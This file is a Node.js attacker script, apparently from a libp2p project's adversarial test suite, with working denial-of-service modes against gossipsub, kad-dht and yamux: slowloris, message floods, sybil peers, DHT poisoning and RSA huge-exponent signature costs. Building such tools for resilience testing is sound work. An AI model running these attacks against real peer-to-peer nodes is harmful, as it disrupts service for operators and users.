#!/usr/bin/env node
// One attacker of the adversarial suite: a real js-libp2p 2.10 peer (TCP, Noise, Yamux,
// from tests/interop/node_modules) that speaks gossipsub, kad-dht and yamux the way a
// hostile peer would, or raw TCP for attacks below libp2p. Every mode is bounded in count
// and time and exits by itself.
//
//   node attacker.mjs MODE --target MULTIADDR [--source-ip IP] [--duration-ms N] [options]
//
// MODE: slowloris | partial-streams | iwant-flood | ihave-flood | graft-flood | syn-flood |
//       invalid-spam | sybil | dht-flood | seqno-jump | rsa-exponent
// (each mode's options are read in its function below).
//
// stdout, one JSON object a line:
//   {"event":"ready","peer":ID}            connected (libp2p modes), the attack starts
//   {"event":"cut","after_ms":N}           the victim closed our (last) connection
//   {"event":"done", ...counters}          the attack is over; the process exits 0
// --source-ip binds every outgoing TCP connection to that loopback address (127.66.x.y),
// so a victim's per-IP limits see the attacker apart from the honest peers on 127.0.0.1.
import '../interop/polyfill.mjs'
import net from 'node:net'
import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto'
import * as pb from './pb.mjs'

const NM = new URL('../interop/node_modules/', import.meta.url)
const dep = (name, file = 'dist/src/index.js') => import(new URL(`${name}/${file}`, NM).href)
const { createLibp2p } = await dep('libp2p')
const { tcp } = await dep('@libp2p/tcp')
const { noise } = await dep('@chainsafe/libp2p-noise')
const { yamux } = await dep('@chainsafe/libp2p-yamux')
const { identify } = await dep('@libp2p/identify')
const { ping } = await dep('@libp2p/ping')
const { generateKeyPair } = await dep('@libp2p/crypto', 'dist/src/keys/index.js')
const { multiaddr } = await dep('@multiformats/multiaddr')
const { pushable } = await dep('it-pushable')

const MESHSUB = '/meshsub/1.1.0'
const UNLIMITED = 1_000_000

// ---- arguments -------------------------------------------------------------------
const [mode, ...rest] = process.argv.slice(2)
const opts = {}
for (let i = 0; i < rest.length; i += 2) {
  if (!rest[i].startsWith('--') || i + 1 >= rest.length) usage(`bad argument ${rest[i]}`)
  opts[rest[i].slice(2)] = rest[i + 1]
}
function usage (why) {
  process.stderr.write(`attacker.mjs: ${why}\nusage: node attacker.mjs MODE --target MULTIADDR [--source-ip IP] [--duration-ms N] [--OPTION V]...\n`)
  process.exit(2)
}
const num = (name, dflt) => {
  if (opts[name] == null) return dflt
  const v = Number(opts[name])
  if (!Number.isFinite(v) || v < 0) usage(`--${name} must be a number >= 0`)
  return v
}
if (opts.target == null) usage('--target is required')
const target = multiaddr(opts.target)
const sourceIp = opts['source-ip']
const durationMs = num('duration-ms', 10_000)
const KAD = opts['kad-protocol'] ?? '/p2pmq/kad/1.0.0' // the victim's dht.protocol_prefix + /kad/1.0.0
const t0 = Date.now()
const elapsed = () => Date.now() - t0
const emit = obj => new Promise(resolve => process.stdout.write(JSON.stringify(obj) + '\n', resolve))
const sleep = ms => new Promise(resolve => setTimeout(resolve, ms))
const stats = {}
let finished = false
async function finish (extra = {}) {
  if (finished) return
  finished = true
  await emit({ event: 'done', after_ms: elapsed(), ...stats, ...extra })
  process.exit(0)
}
// The hard bound: whatever a mode is doing, it ends here.
setTimeout(() => finish({ hard_stop: true }), durationMs + 30_000).unref()
for (const sig of ['SIGTERM', 'SIGINT']) process.on(sig, () => finish({ signal: sig }))

// Every TCP socket we open, bound to --source-ip when given. @libp2p/tcp calls
// net.connect, so the patch reaches libp2p's dials as well.
const sockets = []
const connect = net.connect
net.connect = function (o, ...args) {
  if (sourceIp != null && typeof o === 'object' && o != null) o = { ...o, localAddress: sourceIp }
  const s = connect.call(this, o, ...args)
  sockets.push(s)
  return s
}

// ---- a libp2p node whose muxers we can reach (raw yamux frames) --------------------
const muxers = []
function capturingYamux () {
  const factory = yamux({ maxInboundStreams: UNLIMITED, maxOutboundStreams: UNLIMITED, maxMessageSize: 1 << 20 })
  return components => {
    const y = factory(components)
    const create = y.createStreamMuxer.bind(y)
    y.createStreamMuxer = init => { const m = create(init); muxers.push(m); return m }
    return y
  }
}

async function makeNode ({ privateKey, listen = false, services = true } = {}) {
  return createLibp2p({
    privateKey,
    addresses: { listen: listen ? [`/ip4/${sourceIp ?? '127.0.0.1'}/tcp/0`] : [] },
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [capturingYamux()],
    connectionGater: { denyDialMultiaddr: async () => false },
    connectionManager: {
      allow: ['/ip4/127.0.0.0/ipcidr/8'],
      maxConnections: 10_000,
      maxIncomingPendingConnections: 1_000,
      inboundConnectionThreshold: 1_000_000,
      maxParallelDials: 100,
      dialTimeout: 30_000
    },
    services: services ? { identify: identify({ timeout: 30_000 }), ping: ping() } : {}
  })
}

/** Dial the victim; emit ready; report when the victim cuts us off. */
async function connectVictim (node) {
  const conn = await node.dial(target, { signal: AbortSignal.timeout(30_000) })
  const victim = conn.remotePeer.toString()
  node.addEventListener('peer:disconnect', e => {
    if (e.detail.toString() !== victim || stats.cut_after_ms != null) return
    stats.cut_after_ms = elapsed()
    emit({ event: 'cut', after_ms: stats.cut_after_ms })
  })
  await emit({ event: 'ready', peer: node.peerId.toString(), victim })
  return conn
}

const forever = new Promise(() => {})

// ---- gossipsub over a real stream: our RPCs out, the victim's RPCs in -------------
async function gossipLink (node, conn, { onRpc = () => {} } = {}) {
  stats.rpcs_received = 0
  stats.bytes_received = 0
  await node.handle(['/meshsub/1.2.0', MESHSUB], ({ stream }) => {
    (async () => {
      let pending = Buffer.alloc(0)
      for await (const chunk of stream.source) {
        const bytes = chunk.subarray()
        stats.bytes_received += bytes.length
        const [rpcs, rest] = pb.splitFramed(Buffer.concat([pending, bytes]))
        pending = Buffer.from(rest)
        for (const r of rpcs) { stats.rpcs_received++; onRpc(r) }
      }
    })().catch(() => {})
  }, { maxInboundStreams: UNLIMITED, maxOutboundStreams: UNLIMITED, runOnLimitedConnection: true })
  const out = pushable()
  const stream = await conn.newStream([MESHSUB], { maxOutboundStreams: UNLIMITED, signal: AbortSignal.timeout(30_000) })
  stream.sink(out).catch(err => { stats.stream_error = err.message })
  stats.rpcs_sent = 0
  return {
    send (rpcBody) { stats.rpcs_sent++; out.push(pb.framed(rpcBody)) },
    // the bytes not yet taken by the muxer (our side's backlog)
    backlog: () => out.readableLength
  }
}

function msgId (topic, from, seqno) {
  const t = Buffer.from(topic, 'utf8')
  return createHash('sha256').update(Buffer.concat([pb.uvarint(t.length), t, from, seqno])).digest()
}

async function signedMessage (privateKey, from, topic, seqno, data) {
  const fields = { from, data: Buffer.from(data), seqno: pb.seqnoBytes(seqno), topic }
  const unsigned = pb.messageUnsigned(fields)
  const sig = await privateKey.sign(Buffer.concat([Buffer.from('libp2p-pubsub:'), unsigned]))
  return pb.messageSigned(fields, sig)
}

/** Until the deadline or until pred() holds, polling our own counters. */
async function holdUntil (deadlineMs, pred = () => false) {
  while (elapsed() < deadlineMs && !pred()) await sleep(100)
}

// ---- modes --------------------------------------------------------------------------
const MODES = {
  // TCP connections that never finish a handshake: some send garbage, some the multistream
  // header one byte a second, the rest nothing. Each one the victim closes is replaced by
  // a silent one (at most --max-opened in all), so the attacker holds --connections for
  // --duration-ms.
  async slowloris () {
    const count = num('connections', 400)
    const garbage = num('garbage', 100)
    const slow = num('slow', 150)
    const maxOpened = num('max-opened', 5000)
    const { host, port } = target.toOptions()
    Object.assign(stats, { opened: 0, failed: 0, closed_by_victim: 0 })
    const closeTimes = []
    const live = new Set()
    const slowOnes = new Set()
    let attempts = 0
    let stopping = false
    const open = kind => {
      if (attempts >= maxOpened || stopping || elapsed() >= durationMs) return
      attempts++
      const s = net.connect({ host, port })
      let connected = false
      live.add(s)
      if (kind === 'slow') slowOnes.add(s)
      s.on('connect', () => {
        connected = true
        stats.opened++
        if (kind === 'garbage') s.write(randomBytes(4096))
      })
      s.on('error', () => {})
      s.on('data', () => {}) // read and drop what the victim says
      s.on('close', () => {
        live.delete(s)
        slowOnes.delete(s)
        if (stopping) return
        if (!connected) stats.failed++
        else { stats.closed_by_victim++; closeTimes.push(elapsed()) }
        open('silent')
      })
    }
    for (let i = 0; i < count; i++) open(i < garbage ? 'garbage' : i < garbage + slow ? 'slow' : 'silent')
    await emit({ event: 'ready' })
    const header = Buffer.from('\x13/multistream/1.0.0\n')
    let k = 0
    const drip = setInterval(() => {
      for (const s of slowOnes) if (!s.connecting) s.write(header.subarray(k % header.length, k % header.length + 1))
      k++
    }, 1000)
    await holdUntil(durationMs)
    clearInterval(drip)
    closeTimes.sort((a, b) => a - b)
    stats.still_open = live.size
    if (closeTimes.length) {
      stats.first_close_ms = closeTimes[0]
      stats.median_close_ms = closeTimes[Math.floor(closeTimes.length / 2)]
    }
    stopping = true
    for (const s of live) s.destroy()
  },

  // Many /meshsub streams, each holding --bytes of an RPC announced as --rpc-size.
  async 'partial-streams' () {
    const streams = num('streams', 200)
    const bytes = num('bytes', 999_000)
    const rpcSize = num('rpc-size', 1_000_000)
    const node = await makeNode()
    const conn = await connectVictim(node)
    Object.assign(stats, { streams_opened: 0, streams_failed: 0, streams_reset: 0, bytes_sent: 0 })
    const chunk = Buffer.alloc(64 * 1024, 0x41)
    const one = async () => {
      let s
      try {
        s = await conn.newStream([MESHSUB], { maxOutboundStreams: UNLIMITED, signal: AbortSignal.timeout(30_000) })
      } catch { stats.streams_failed++; return }
      stats.streams_opened++
      const source = (async function * () {
        yield pb.uvarint(rpcSize)
        for (let sent = 0; sent < bytes; sent += chunk.length) {
          const n = Math.min(chunk.length, bytes - sent)
          stats.bytes_sent += n
          yield chunk.subarray(0, n)
        }
        await forever // the rest of the RPC never comes
      })()
      s.sink(source).catch(() => { stats.streams_reset++ })
    }
    for (let i = 0; i < streams && elapsed() < durationMs; i += 20) {
      await Promise.all(Array.from({ length: Math.min(20, streams - i) }, one))
    }
    await holdUntil(durationMs)
  },

  // IWANT for every id the victim sent us (waiting up to 8 s for --want-ids of them; random
  // ids when none came), --rpcs times --ids each,
  // optionally with our socket paused so that the victim's answers pile up on its side.
  async 'iwant-flood' () {
    const topic = opts.topic ?? usage('--topic is required')
    const rpcs = num('rpcs', 300)
    const idsPer = num('ids', 5000)
    const pauseReading = opts['pause-reading'] === '1'
    const node = await makeNode()
    const conn = await connectVictim(node)
    const known = []
    const link = await gossipLink(node, conn, {
      onRpc: r => { for (const m of pb.publishedMessages(r)) if (m.from && m.seqno) known.push(msgId(m.topic, m.from, m.seqno)) }
    })
    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)], control: pb.controlGraft(topic) }))
    const wantIds = num('want-ids', 1000)
    await holdUntil(Math.min(durationMs, 8_000), () => known.length >= wantIds)
    stats.known_ids = known.length
    if (pauseReading) for (const s of sockets) s.pause()
    const ids = Array.from({ length: idsPer }, (_, i) => known.length ? known[i % known.length] : randomBytes(32))
    const body = pb.rpc({ control: pb.controlIWant(ids) })
    for (let i = 0; i < rpcs && elapsed() < durationMs; i++) {
      link.send(body)
      if (link.backlog() > 8 << 20) await sleep(50) // do not buffer the flood in ourselves
    }
    await holdUntil(durationMs)
  },

  // IHAVE with --ids unknown ids, --rpcs times: the victim asks (IWANT) and never gets them.
  async 'ihave-flood' () {
    const topic = opts.topic ?? usage('--topic is required')
    const rpcs = num('rpcs', 300)
    const idsPer = num('ids', 5000)
    const node = await makeNode()
    const conn = await connectVictim(node)
    const link = await gossipLink(node, conn)
    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
    for (let i = 0; i < rpcs && elapsed() < durationMs; i++) {
      link.send(pb.rpc({ control: pb.controlIHave(topic, Array.from({ length: idsPer }, () => randomBytes(32))) }))
      if (i % 10 === 9) await sleep(100) // across heartbeats, as a patient attacker would
    }
    await holdUntil(durationMs)
  },

  // GRAFT, PRUNE (the victim backs off from us), then --grafts GRAFTs inside the backoff.
  async 'graft-flood' () {
    const topic = opts.topic ?? usage('--topic is required')
    const grafts = num('grafts', 2000)
    const node = await makeNode()
    const conn = await connectVictim(node)
    const link = await gossipLink(node, conn)
    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)], control: pb.controlGraft(topic) }))
    link.send(pb.rpc({ control: pb.controlPrune(topic, 60) }))
    for (let i = 0; i < grafts && elapsed() < durationMs; i++) {
      link.send(pb.rpc({ control: pb.controlGraft(topic) }))
      if (i % 100 === 99) await sleep(50)
    }
    await holdUntil(durationMs)
  },

  // Yamux pings, then SYNs (window updates with SYN, never a byte of multistream) past
  // the victim's stream limit, with our socket paused: the victim's answers (pong, ACK,
  // RST) can only queue on its side.
  async 'syn-flood' () {
    const syns = num('syns', 20_000)
    const pings = num('pings', 200_000)
    const node = await makeNode()
    await connectVictim(node)
    const muxer = muxers.at(-1)
    for (const s of sockets) s.pause()
    // what the victim answers (pongs, ACKs and RSTs of streams our muxer does not know)
    // would make our own muxer give up with a GoAway: it never gets to see them
    muxer.handleFrame = async (header, readData) => { if (header.type === 0 && header.length > 0) await readData?.() }
    const header = (type, flag, id, length) => {
      const h = Buffer.alloc(12)
      h.writeUInt8(0, 0); h.writeUInt8(type, 1); h.writeUInt16BE(flag, 2); h.writeUInt32BE(id, 4); h.writeUInt32BE(length, 8)
      return h
    }
    const BATCH = 4000 // frames per push: one Noise message of 48 kB
    let id = muxer.nextStreamID + 200_000 // far from the ids the muxer uses itself
    Object.assign(stats, { syns_sent: 0, pings_sent: 0 })
    for (let sent = 0; sent < pings && elapsed() < durationMs; sent += BATCH) {
      const n = Math.min(BATCH, pings - sent)
      muxer.source.push(Buffer.concat(Array.from({ length: n }, (_, i) => header(2, 1, 0, sent + i))))
      stats.pings_sent += n
      await sleep(20)
    }
    for (let sent = 0; sent < syns && elapsed() < durationMs; sent += BATCH) {
      const n = Math.min(BATCH, syns - sent)
      muxer.source.push(Buffer.concat(Array.from({ length: n }, () => { const h = header(1, 1, id, 0); id += 2; return h })))
      stats.syns_sent += n
      await sleep(20)
    }
    await holdUntil(durationMs)
  },

  // Validly signed messages whose data starts with --prefix (which the victim's validator
  // REJECTs), --messages of them in RPCs of --batch.
  async 'invalid-spam' () {
    const topic = opts.topic ?? usage('--topic is required')
    const messages = num('messages', 5000)
    const batch = num('batch', 100)
    const prefix = opts.prefix ?? 'spam'
    const privateKey = await generateKeyPair('Ed25519')
    const node = await makeNode({ privateKey })
    const conn = await connectVictim(node)
    const link = await gossipLink(node, conn)
    const from = Buffer.from(node.peerId.toMultihash().bytes)
    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
    stats.messages_sent = 0
    for (let k = 1; k <= messages && elapsed() < durationMs;) {
      const msgs = []
      for (let j = 0; j < batch && k <= messages; j++, k++) msgs.push(await signedMessage(privateKey, from, topic, k, `${prefix}-${k}`))
      link.send(pb.rpc({ publish: msgs }))
      stats.messages_sent += msgs.length
      if (link.backlog() > 4 << 20) await sleep(50)
    }
    await holdUntil(durationMs)
  },

  // --peers distinct identities from one IP, each one connection, all held.
  async sybil () {
    const peers = num('peers', 100)
    Object.assign(stats, { connected: 0, failed: 0, closed_by_victim: 0 })
    const nodes = []
    const closeTimes = []
    await emit({ event: 'ready' })
    for (let i = 0; i < peers && elapsed() < durationMs; i += 10) {
      await Promise.all(Array.from({ length: Math.min(10, peers - i) }, async () => {
        const node = await makeNode({ services: false })
        nodes.push(node)
        try {
          await node.dial(target, { signal: AbortSignal.timeout(15_000) })
          stats.connected++
          node.addEventListener('peer:disconnect', () => { if (!finished) { stats.closed_by_victim++; closeTimes.push(elapsed()) } }, { once: true })
        } catch { stats.failed++ }
      }))
    }
    await holdUntil(durationMs)
    stats.still_connected = nodes.filter(n => n.getConnections().length > 0).length
    if (closeTimes.length) stats.first_close_ms = Math.min(...closeTimes)
  },

  // A DHT server that answers every query with fake peers (--fake-peers of them, each
  // with --addrs addresses) and provides --keys keys, --per-stream ADD_PROVIDERs a stream.
  async 'dht-flood' () {
    const keys = num('keys', 5000)
    const fakePeers = num('fake-peers', 20)
    const addrsPer = num('addrs', 32)
    const perStream = num('per-stream', 100)
    const node = await makeNode({ listen: true })
    const fakeId = () => Buffer.concat([Buffer.from([0x00, 0x24, 0x08, 0x01, 0x12, 0x20]), randomBytes(32)])
    // TEST-NET-1 (RFC 5737): nothing answers there, so a dial hangs until its timeout
    const fakeAddrs = () => Array.from({ length: addrsPer }, (_, i) =>
      multiaddr(`/ip4/192.0.2.${1 + Math.floor(Math.random() * 250)}/tcp/${1000 + i}`).bytes)
    const fakes = () => Array.from({ length: fakePeers }, () => pb.kadPeer(fakeId(), fakeAddrs()))
    stats.queries_answered = 0
    await node.handle(KAD, ({ stream }) => {
      const out = pushable()
      stream.sink(out).catch(() => {})
      ;(async () => {
        let pending = Buffer.alloc(0)
        for await (const chunk of stream.source) {
          const [msgs, rest] = pb.splitFramed(Buffer.concat([pending, chunk.subarray()]))
          pending = Buffer.from(rest)
          for (const m of msgs) {
            const f = pb.decodeFields(m)
            const type = f.find(x => x.field === 1)?.value ?? 0
            const key = f.find(x => x.field === 2)?.value
            if (type === pb.KAD.ADD_PROVIDER) continue
            stats.queries_answered++
            out.push(pb.framed(pb.kadMessage({ type, key, closer: fakes(), providers: type === pb.KAD.GET_PROVIDERS ? fakes() : [] })))
          }
        }
        out.end()
      })().catch(() => {})
    }, { maxInboundStreams: UNLIMITED, maxOutboundStreams: UNLIMITED })
    const conn = await connectVictim(node)
    const self = Buffer.from(node.peerId.toMultihash().bytes)
    const ownAddrs = node.getMultiaddrs().map(a => a.decapsulateCode(421).bytes)
    stats.providers_sent = 0
    for (let k = 0; k < keys && elapsed() < durationMs; k += perStream) {
      let s
      try { s = await conn.newStream([KAD], { maxOutboundStreams: UNLIMITED, signal: AbortSignal.timeout(10_000) }) } catch { break }
      const frames = []
      for (let j = 0; j < perStream && k + j < keys; j++) {
        const key = Buffer.concat([Buffer.from([0x12, 0x20]), randomBytes(32)])
        frames.push(pb.framed(pb.kadMessage({ type: pb.KAD.ADD_PROVIDER, key, providers: [pb.kadPeer(self, ownAddrs), ...fakes().slice(0, 2)] })))
      }
      await s.sink([Buffer.concat(frames)]).catch(() => {})
      stats.providers_sent += frames.length
    }
    await holdUntil(durationMs)
  },

  // Our own messages on --topic with seqnos 1..3, then 2^40 and a few after it.
  async 'seqno-jump' () {
    const topic = opts.topic ?? usage('--topic is required')
    const jump = BigInt(opts.jump ?? 2n ** 40n)
    const privateKey = await generateKeyPair('Ed25519')
    const node = await makeNode({ privateKey })
    const conn = await connectVictim(node)
    const link = await gossipLink(node, conn)
    const from = Buffer.from(node.peerId.toMultihash().bytes)
    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
    const seqnos = [1n, 2n, 3n, jump, jump + 1n, jump + 2n]
    for (const s of seqnos) {
      link.send(pb.rpc({ publish: [await signedMessage(privateKey, from, topic, s, `jump-${s}`)] }))
      await sleep(200)
    }
    stats.messages_sent = seqnos.length
    await holdUntil(durationMs)
  },

  // Messages "signed" by an RSA-3072 key whose public exponent is as large as the modulus
  // allows: checking each costs a full-size modexp. --messages per RPC, --rpcs RPCs.
  async 'rsa-exponent' () {
    const topic = opts.topic ?? usage('--topic is required')
    const perRpc = num('messages', 600)
    const connections = num('connections', 1)
    const { key, from } = hugeExponentRsaKey()
    const rpcBody = first => {
      const msgs = []
      for (let i = 0; i < perRpc; i++) {
        const seqno = first + i
        const fields = { from, data: Buffer.from(`rsa-${seqno}`), seqno: pb.seqnoBytes(seqno), topic }
        const sig = randomBytes(384)
        sig[0] = 0 // below the modulus, so the verifier must do the modexp to refuse it
        msgs.push(pb.messageSigned(fields, sig, key))
      }
      return pb.rpc({ publish: msgs })
    }
    // one connection (a fresh identity) per RPC, all connected before the first RPC goes
    // out: the victim, busy verifying, could not take the later dials in time
    const links = []
    for (let c = 0; c < connections && elapsed() < durationMs; c++) {
      const node = await makeNode()
      const conn = c === 0 ? await connectVictim(node) : await node.dial(target, { signal: AbortSignal.timeout(30_000) }).catch(() => null)
      const link = conn == null ? null : await gossipLink(node, conn).catch(() => null)
      if (link == null) { stats.dials_failed = (stats.dials_failed ?? 0) + 1; continue }
      link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
      links.push(link)
    }
    stats.messages_sent = 0
    for (const [c, link] of links.entries()) {
      link.send(rpcBody(1 + c * perRpc))
      stats.messages_sent += perRpc
    }
    await holdUntil(durationMs)
  }
}

/** An RSA-3072 public key (libp2p protobuf) with e = n - 2, and its peer id bytes. */
function hugeExponentRsaKey () {
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 3072 })
  const n = Buffer.from(publicKey.export({ format: 'jwk' }).n, 'base64url')
  const e = Buffer.from(n)
  e[e.length - 1] -= 2 // n is odd, so n - 2 is odd and below n
  const der = (tag, body) => {
    const len = body.length < 128 ? Buffer.from([body.length])
      : body.length < 256 ? Buffer.from([0x81, body.length]) : Buffer.from([0x82, body.length >> 8, body.length & 0xff])
    return Buffer.concat([Buffer.from([tag]), len, body])
  }
  const int = b => der(0x02, b[0] & 0x80 ? Buffer.concat([Buffer.from([0]), b]) : b)
  const rsaKey = der(0x30, Buffer.concat([int(n), int(e)]))
  const algo = der(0x30, Buffer.concat([der(0x06, Buffer.from('2a864886f70d010101', 'hex')), Buffer.from([0x05, 0x00])]))
  const spki = der(0x30, Buffer.concat([algo, der(0x03, Buffer.concat([Buffer.from([0]), rsaKey]))]))
  const key = Buffer.concat([pb.varintField(1, 0), pb.bytesField(2, spki)]) // KeyType RSA = 0
  const from = Buffer.concat([Buffer.from([0x12, 0x20]), createHash('sha256').update(key).digest()])
  return { key, from }
}

const fn = MODES[mode] ?? usage(`unknown mode ${mode}`)
try {
  await fn()
  await finish()
} catch (err) {
  process.stderr.write(`attacker.mjs ${mode}: ${err.stack ?? err}\n`)
  await finish({ error: err.message })
}
